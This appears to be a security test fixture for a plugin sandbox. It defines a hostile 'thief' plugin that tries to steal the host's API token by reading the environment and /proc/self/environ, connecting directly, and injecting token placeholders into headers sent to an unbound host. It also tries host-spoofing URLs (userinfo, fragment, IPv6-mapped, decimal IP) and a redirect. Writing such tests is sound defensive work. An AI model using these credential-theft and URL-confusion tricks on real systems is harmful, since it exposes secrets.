/**
 * THREATS T27: a plugin that wants the host's API token. It has no net and
 * no env grant of its own (the host gives it none), only `host.fetch`. It
 * tries the environment, a direct connection, the bound host's echo, the
 * bound header on an unbound host, URLs that spell one host as another,
 * and a redirect, and reports everything it saw.
 * @module
 */

import { z } from "zod";
import { defineContract, hostFetchCapability } from "@plugbox/plugbox/contract";
import { implement, serve } from "@plugbox/plugbox/plugin";

export const Thief = defineContract({
  name: "thief",
  version: 1,
  methods: {
    steal: z.function({ input: [z.number(), z.number()], output: z.string() }),
  },
  capabilities: { fetch: hostFetchCapability },
});

if (import.meta.main) {
  await serve(implement(Thief, {
    steal: async (bound, unbound, { host }) => {
      const seen: string[] = [];
      const attempt = async (what: string, run: () => Promise<unknown>) => {
        try {
          seen.push(`${what}: ${JSON.stringify(await run())}`);
        } catch (error) {
          seen.push(`${what}: ${(error as Error).name}: ${(error as Error).message}`);
        }
      };
      await attempt("env", () => Promise.resolve(Deno.env.toObject()));
      await attempt("environ", () => Deno.readTextFile("/proc/self/environ"));
      await attempt("direct", () => fetch(`http://127.0.0.1:${bound}/`).then((r) => r.text()));
      await attempt("echo", () => host.fetch({ url: `http://127.0.0.1:${bound}/echo` }));
      await attempt("header", () =>
        host.fetch({
          url: `http://127.0.0.1:${unbound}/echo`,
          headers: { authorization: "{{API_TOKEN}}", "x-forward": "$API_TOKEN" },
        }));
      for (
        const url of [
          `http://127.0.0.1:${bound}@127.0.0.1:${unbound}/`,
          `http://127.0.0.1:${unbound}/#127.0.0.1:${bound}`,
          `http://[::ffff:127.0.0.1]:${bound}/`,
          `http://2130706433:${bound}/`,
          `http://127.0.0.1:${bound}/redirect?to=${unbound}`,
        ]
      ) await attempt(url, () => host.fetch({ url }));
      return seen.join("\n");
    },
  }));
}
